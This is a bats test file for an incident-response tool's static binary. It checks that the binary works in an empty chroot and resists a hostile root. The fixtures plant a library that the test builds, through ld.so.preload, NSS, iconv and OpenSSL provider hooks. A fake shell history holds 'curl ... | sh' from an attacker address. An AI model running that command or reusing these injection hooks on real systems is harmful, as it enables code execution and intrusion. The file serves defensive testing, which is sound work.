#!/usr/bin/env bats
# The static release binary (scripts/test builds it into build-static/):
# it needs no shared library, works in an empty chroot over a host tree
# mounted read-only, and nothing of a hostile root (ld.so.preload, NSS
# modules, OpenSSL providers) reaches it.  Where a dynamic irt would open
# a library it runs the host's command (nft, journalctl), bounded, or
# says in one line what is missing.  Run as root: chroot and mount.
#
# Every mount is recorded in MOUNTS and undone in teardown, which checks
# that none is left before it removes the test's folder.

load helper

# An export-format journal entry, turned into a binary journal file.
JOURNAL_ENTRY='__REALTIME_TIMESTAMP=1764278079000000
__MONOTONIC_TIMESTAMP=1
_BOOT_ID=0123456789abcdef0123456789abcdef
_HOSTNAME=web01
SYSLOG_IDENTIFIER=sshd
_PID=812
MESSAGE=Accepted publickey for root from 198.51.100.23 port 51122 ssh2
'

# A library whose constructor says it was loaded and ends the process: in
# ld.so.preload, as an NSS module and as an OpenSSL provider.
EVIL_C='
#include <unistd.h>
__attribute__((constructor)) static void evil(void)
{
	static const char m[] = "EVIL LIBRARY LOADED\n";
	(void)!write(2, m, sizeof m - 1);
	_exit(66);
}
int OSSL_provider_init(void) { return 0; }
'

# A static program without irt's guards, to show that the traps above
# work: "nss" looks a user and a host up, "iconv" converts as libarchive
# does, "ssl" hashes with OpenSSL.
CONTROL_C='
#include <iconv.h>
#include <netdb.h>
#include <pwd.h>
#include <stdio.h>
#include <string.h>
#include <openssl/evp.h>
int main(int argc, char **argv)
{
	unsigned char md[EVP_MAX_MD_SIZE];
	unsigned int n;
	struct addrinfo *ai;

	if (argc > 1 && strcmp(argv[1], "nss") == 0) {
		printf("%p\n", (void *)getpwuid(4242));
		printf("%d\n", getaddrinfo("jump.example.org", NULL, NULL, &ai));
		return 0;
	}
	if (argc > 1 && strcmp(argv[1], "iconv") == 0) {
		printf("%p\n", (void *)iconv_open("UTF-8", "ANSI_X3.4-1968"));
		return 0;
	}
	EVP_Digest("abc", 3, md, &n, EVP_sha256(), NULL);
	printf("%u\n", n);
	return 0;
}
'

setup() {
	setup_common
	BIN=${IRT_STATIC_BIN:-$IRT_SRC/build-static/cmd/irt}
	if [ ! -x "$BIN" ]; then
		echo "no static irt at '$BIN': scripts/test builds it" \
		    "(meson setup build-static -Dstatic=enabled)" >&2
		return 1
	fi
	CHROOT=$(command -v chroot)
	MOUNTS=()
	PIDS=()
	CH=$TMP/chroot
	HOST=$TMP/hosttree
	make_host
	make_chroot
}

teardown() {
	local i p
	for p in "${PIDS[@]}"; do
		kill "$p" 2>/dev/null || true
		wait "$p" 2>/dev/null || true
	done
	for ((i = ${#MOUNTS[@]} - 1; i >= 0; i--)); do
		umount "${MOUNTS[i]}" || umount -l "${MOUNTS[i]}"
	done
	# never remove files through a mount that is still there
	if grep -qF " $TMP/" /proc/self/mountinfo; then
		echo "mounts left under $TMP" >&2
		return 1
	fi
	teardown_common
}

# The host under investigation: logs, a history, users, a binary journal.
make_host() {
	mkdir -p "$HOST/etc" "$HOST/var/log/journal" "$HOST/home/ann" \
	    "$HOST/root"
	echo web01 >"$HOST/etc/hostname"
	printf 'root:x:0:0:root:/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/bash\n' \
	    >"$HOST/etc/passwd"
	echo 'Nov 27 21:14:39 web01 sshd[812]: Accepted publickey for root from 198.51.100.23 port 51122 ssh2' \
	    >"$HOST/var/log/auth.log"
	printf '#1795813990\ncurl -s http://198.51.100.23/x | sh\n' \
	    >"$HOST/home/ann/.bash_history"
	printf '%s\n' "$JOURNAL_ENTRY" |
	    /lib/systemd/systemd-journal-remote \
	        -o "$HOST/var/log/journal/system.journal" - 2>/dev/null
	[ -s "$HOST/var/log/journal/system.journal" ]
	find "$HOST" -type f -exec sha256sum {} + | sort >"$TMP/host.sha256"
}

# The empty chroot: the binary, empty folders, the host tree read-only.
make_chroot() {
	mkdir -p "$CH/host" "$CH/tmp" "$CH/work"
	chmod 1777 "$CH/tmp"
	cp "$BIN" "$CH/irt"
	mount --bind "$HOST" "$CH/host"
	MOUNTS+=("$CH/host")
	mount -o remount,bind,ro "$CH/host"
}

# jail ARGS...: the static irt in the chroot, with an empty environment
# but for $JAIL_ENV.
jail() {
	env -i ${JAIL_ENV:-} "$CHROOT" "$CH" /irt "$@"
}

@test "static: the release binary needs no shared library" {
	run file "$BIN"
	[ "$status" -eq 0 ]
	assert_contains "$output" "statically linked"
	run ldd "$BIN"
	[ "$status" -ne 0 ]
	assert_contains "$output" "not a dynamic executable"
	# no interpreter, no dynamic section
	run readelf -lW "$BIN"
	[ "$status" -eq 0 ]
	assert_not_contains "$output" "INTERP"
	assert_not_contains "$output" "DYNAMIC"
	run "$BIN" --version
	[ "$status" -eq 0 ]
	[ "$output" = "irt $("$IRT" --version | cut -d' ' -f2)" ]
}

@test "static: collect, verify, timeline, hunt, run, note and case in an empty chroot" {
	# nothing in there but irt and empty folders
	[ "$(ls -A "$CH" | tr '\n' ' ')" = "host irt tmp work " ]
	[ "$(find "$CH/tmp" "$CH/work" -mindepth 1 | wc -l)" -eq 0 ]

	run jail case init /work/case --id INC-CHROOT --title "from a chroot"
	[ "$status" -eq 0 ]
	[ "$output" = "created case INC-CHROOT in /work/case" ]

	# no /etc/passwd, no $USER: the responder is the numeric uid
	run jail -C /work/case note add -t ids -m "beacon to 198.51.100.23"
	[ "$status" -eq 0 ]
	note=$output
	uid=$(id -u)
	[ "$(git -C "$CH/work/case" log -1 --format='%an <%ae>')" = \
	    "$uid <$uid@$(uname -n)>" ]

	run jail -C /work/case collect --root /host -m "triage from a chroot"
	[ "$status" -eq 0 ]
	archive=$(printf '%s\n' "$output" | grep '^/work/case/evidence/.*\.tar\.gz$')
	assert_contains "$output" " 0 error"
	tar -xzOf "$CH$archive" irt/manifest.sha256 >"$TMP/manifest"
	assert_contains "$(cat "$TMP/manifest")" "var/log/auth.log"
	assert_contains "$(cat "$TMP/manifest")" "home/ann/.bash_history"

	run jail verify "$archive"
	[ "$status" -eq 0 ]
	assert_contains "$output" "ok: "

	run jail timeline "archive:$archive" --match sshd --format mactime
	[ "$status" -eq 0 ]
	assert_contains "$output" "Accepted publickey for root from 198.51.100.23"
	run jail timeline syslog:/host/var/log/auth.log \
	    bash_history:/host/home/ann/.bash_history --year 2026
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2026-11-27T21:14:39Z"'
	assert_contains "$output" 'curl -s http://198.51.100.23/x | sh'

	# a binary journal needs the host's journalctl: one line says so
	run jail timeline journal:/host/var/log/journal/system.journal
	[ "$status" -eq 0 ]
	assert_contains "$output" "a static irt reads binary journals with journalctl, and finds none"
	[ "$(printf '%s\n' "$output" | grep -c journalctl)" -eq 1 ]

	# hunt the archive for the case's IOCs, and for a YARA rule
	run jail -C /work/case ioc add 198.51.100.23
	[ "$status" -eq 0 ]
	run jail -C /work/case hunt "$archive"
	[ "$status" -eq 0 ]
	assert_contains "$output" "ioc  ipv4 198.51.100.23"
	assert_contains "$output" "/var/log/auth.log:1  message: 198.51.100.23"
	assert_contains "$output" "recorded in the case"
	printf 'rule beacon { strings: $a = "198.51.100.23" condition: $a }\n' \
	    >"$CH/work/beacon.yar"
	run jail hunt --no-record --yara /work/beacon.yar "$archive"
	[ "$status" -eq 0 ]
	assert_contains "$output" "beacon.yar:beacon"
	assert_contains "$output" "fs/var/log/auth.log@66  content: 198.51.100.23"

	# the user of a run, numeric too
	run jail -C /work/case run -- /irt --version
	[ "$status" -eq 0 ]
	run sh -c "cat '$CH'/work/case/runs/*/*/*/*/record"
	assert_contains "$output" "user = $uid"

	run jail -C /work/case case verify
	[ "$status" -eq 0 ]
	assert_contains "$output" "case INC-CHROOT verified: 7 commits"
	run git -C "$CH/work/case" log --format=%s
	assert_contains "$output" "note: beacon to 198.51.100.23"

	# and the host tree is as it was
	find "$HOST" -type f -exec sha256sum {} + | sort | cmp - "$TMP/host.sha256"
}

# The chroot of a hostile root: the host's libc in it, /etc/ld.so.preload,
# an NSS module in nsswitch.conf, an iconv module in gconv-modules and an
# OpenSSL provider, all the library above.
make_hostile() {
	local lib libdir gconv
	# libc and ld.so where the program finds them, and beside each other
	# where glibc's dlopen looks for what a module needs
	libdir=$(dirname "$(ldd /bin/true | grep -o '/[^ ]*libc\.so\.6')")
	mkdir -p "$CH$libdir"
	for lib in $(ldd /bin/true | grep -o '/[^ ]*'); do
		mkdir -p "$CH$(dirname "$lib")"
		cp -L "$lib" "$CH$lib"
		cp -L "$lib" "$CH$libdir/"
	done
	mkdir -p "$CH/bin" "$CH/etc" "$CH/usr/lib/ssl"
	cp /bin/true "$CH/bin/true"
	printf '%s' "$EVIL_C" >"$TMP/evil.c"
	cc -shared -fPIC -o "$CH/evil.so" "$TMP/evil.c"
	cp "$CH/evil.so" "$CH$libdir/libnss_evil.so.2"
	echo /evil.so >"$CH/etc/ld.so.preload"
	printf 'passwd: evil\ngroup: evil\nhosts: evil\nservices: evil\n' \
	    >"$CH/etc/nsswitch.conf"
	echo '192.0.2.7 jump.example.org' >"$CH/etc/hosts"
	gconv=$(dirname "$(ls /usr/lib/*/gconv/gconv-modules | head -n 1)")
	mkdir -p "$CH$gconv"
	cp "$CH/evil.so" "$CH$gconv/EVIL.so"
	for pair in 'ANSI_X3.4-1968// UTF-8//' 'UTF-8// ANSI_X3.4-1968//' \
	    'INTERNAL UTF-8//' 'UTF-8// INTERNAL' 'INTERNAL ANSI_X3.4-1968//' \
	    'ANSI_X3.4-1968// INTERNAL'; do
		echo "module $pair EVIL 1"
	done >"$CH$gconv/gconv-modules"
	# a name that libarchive converts
	echo x >"$HOST/var/log/caf$(printf '\351')"
	printf '%s\n' 'openssl_conf = init' '[init]' 'providers = prov' \
	    '[prov]' 'evil = evil_sect' '[evil_sect]' 'module = /evil.so' \
	    'activate = 1' >"$CH/usr/lib/ssl/openssl.cnf"
	cp "$CH/usr/lib/ssl/openssl.cnf" "$CH/etc/evil-ssl.cnf"
	printf '%s' "$CONTROL_C" >"$TMP/control.c"
	# shellcheck disable=SC2046
	cc -static -o "$CH/control" "$TMP/control.c" \
	    $(pkg-config --static --libs libcrypto) 2>/dev/null
}

@test "static: ld.so.preload, NSS, iconv and OpenSSL modules of the root never reach irt" {
	make_hostile
	# the traps work: a dynamic program, and a static one without irt's
	# guards
	run env -i "$CHROOT" "$CH" /bin/true
	[ "$status" -eq 66 ]
	assert_contains "$output" "EVIL LIBRARY LOADED"
	run env -i "$CHROOT" "$CH" /control nss
	[ "$status" -eq 66 ]
	run env -i "$CHROOT" "$CH" /control iconv
	[ "$status" -eq 66 ]
	run env -i "$CHROOT" "$CH" /control ssl
	[ "$status" -eq 66 ]
	run env -i OPENSSL_CONF=/etc/evil-ssl.cnf "$CHROOT" "$CH" /control ssl
	[ "$status" -eq 66 ]

	JAIL_ENV=OPENSSL_CONF=/etc/evil-ssl.cnf
	run jail case init /work/case --id INC-HOSTILE --title hostile
	[ "$status" -eq 0 ]
	run jail -C /work/case note add -m "in a hostile root"
	[ "$status" -eq 0 ]
	assert_not_contains "$output" EVIL
	run jail -C /work/case collect --root /host -m "hashes by OpenSSL"
	[ "$status" -eq 0 ]
	assert_not_contains "$output" EVIL
	archive=$(printf '%s\n' "$output" | grep '^/work/case/evidence/')
	run jail verify "$archive"
	[ "$status" -eq 0 ]
	# host names from the root's /etc/hosts, not from its NSS module
	run jail isolate plan --allow jump.example.org
	[ "$status" -eq 0 ]
	assert_contains "$output" "elements = { 192.0.2.7 }"
	run jail isolate plan --allow nosuch.example.org
	[ "$status" -eq 1 ]
	assert_one_line "$output"
	assert_contains "$output" "cannot resolve 'nosuch.example.org'"
	# run with another real uid, libgit2 looks the effective one up
	run env -i "$(command -v setpriv)" --ruid 4242 "$CHROOT" "$CH" /irt -C /work/case note add \
	    -m "real uid 4242"
	[ "$status" -eq 0 ]
	assert_not_contains "$output" EVIL
	run jail -C /work/case case verify
	[ "$status" -eq 0 ]
	assert_contains "$output" "case INC-HOSTILE verified: 5 commits"
}

@test "static: a binary journal is read through the host's journalctl" {
	command -v journalctl
	run "$BIN" timeline "journal:$HOST/var/log/journal/system.journal"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2025-11-27T21:14:39Z"'
	assert_contains "$output" '"message":"Accepted publickey for root from 198.51.100.23 port 51122 ssh2"'
	assert_contains "$output" '"ident":"sshd"'
	# a folder of them too
	run "$BIN" timeline "journal:$HOST/var/log/journal" --format mactime
	[ "$status" -eq 0 ]
	assert_contains "$output" "Accepted publickey for root"
	# and one inside an evidence archive
	echo 'file /var/log/journal/**' >"$TMP/journal.profile"
	run "$BIN" collect --root "$HOST" --profile "$TMP/journal.profile" \
	    -o "$TMP/host.tar.gz"
	[ "$status" -eq 0 ]
	run "$BIN" timeline "archive:$TMP/host.tar.gz" --match Accepted
	[ "$status" -eq 0 ]
	assert_contains "$output" '"type":"systemd:journal","path":"/var/log/journal/system.journal"'
	assert_contains "$output" '"message":"Accepted publickey for root from 198.51.100.23 port 51122 ssh2"'
}

# fake_journalctl BODY: a journalctl first on PATH that runs BODY.
fake_journalctl() {
	mkdir -p "$TMP/fakebin"
	printf '#!/bin/sh\necho $$ >%s/fake.pid\n%s\n' "$TMP" "$1" \
	    >"$TMP/fakebin/journalctl"
	chmod +x "$TMP/fakebin/journalctl"
}

@test "static: a stalled journalctl is killed, a failing one named in one line" {
	local j=$HOST/var/log/journal/system.journal pid
	# one entry, then nothing, for ever
	fake_journalctl 'printf "__REALTIME_TIMESTAMP=1764278079000000\nMESSAGE=before the stall\n\n"; exec sleep 3600'
	SECONDS=0
	run env PATH="$TMP/fakebin:$PATH" "$BIN" timeline "journal:$j"
	[ "$status" -eq 0 ]
	[ "$SECONDS" -lt 60 ]
	assert_contains "$output" '"message":"before the stall"'
	assert_contains "$output" "'$TMP/fakebin/journalctl' wrote nothing for 10 seconds and was killed"
	pid=$(cat "$TMP/fake.pid")
	run ! kill -0 "$pid"

	fake_journalctl 'echo "Failed to open files: Bad message" >&2; exit 1'
	run env PATH="$TMP/fakebin:$PATH" "$BIN" timeline "journal:$j"
	[ "$status" -eq 0 ]
	assert_contains "$output" "'$TMP/fakebin/journalctl' exited with status 1: Failed to open files: Bad message"
	[ "$(printf '%s\n' "$output" | grep -c 'irt: warning:')" -eq 1 ]

	# output without end: killed at its bound (64 bytes a byte of the file)
	fake_journalctl 'exec yes MESSAGE=flood'
	run env PATH="$TMP/fakebin:$PATH" "$BIN" timeline "journal:$j"
	[ "$status" -eq 0 ]
	assert_contains "$output" "and was killed"
	assert_contains "$output" "wrote more than"
}

@test "static: isolate runs the host's nft, and says in one line when there is none" {
	make_case
	# in a network namespace of its own, gone when the test is
	run unshare -n sh -c '
		ip link set lo up || exit 9
		"$0" isolate apply --allow 192.0.2.1 --confirm-within 60 || exit 1
		"$0" --json isolate status >"$1/status.json" || exit 2
		nft list table inet irt_isolate >"$1/table.nft" || exit 3
		"$0" isolate lift || exit 4
		nft list tables' "$BIN" "$TMP"
	[ "$status" -eq 0 ]
	assert_not_contains "$output" "irt_isolate"
	assert_contains "$(cat "$TMP/status.json")" "\"nftables\":\"$(command -v nft)\""
	assert_contains "$(cat "$TMP/table.nft")" "elements = { 192.0.2.1 }"
	# in the chroot there is no nft
	run jail case init /work/case --id INC-NFT --title nft
	[ "$status" -eq 0 ]
	run jail -C /work/case isolate apply --allow 192.0.2.1
	[ "$status" -eq 1 ]
	assert_one_line "$output"
	assert_contains "$output" "a static irt isolates with the nft command, and finds none on PATH"
}

# A git server that asks for Negotiate authentication, on a free port.
NEGOTIATE_SERVER='
import http.server, os, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(401)
        self.send_header("WWW-Authenticate", "Negotiate")
        self.send_header("Content-Length", "0")
        self.end_headers()
    do_POST = do_GET
    def log_message(self, *args):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write("%d\n" % s.server_port)
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
s.serve_forever()
'

@test "static: a server that asks for Negotiate gets one line" {
	local i
	make_case
	python3 -c "$NEGOTIATE_SERVER" "$TMP/port" &
	PIDS+=($!)
	for ((i = 0; i < 300; i++)); do
		[ -s "$TMP/port" ] && break
		sleep 0.1
	done
	[ -s "$TMP/port" ]
	run "$BIN" case push "http://127.0.0.1:$(cat "$TMP/port")/case.git"
	[ "$status" -eq 1 ]
	assert_one_line "$output"
	assert_contains "$output" "HTTP Negotiate authentication is not available in a static irt"
}
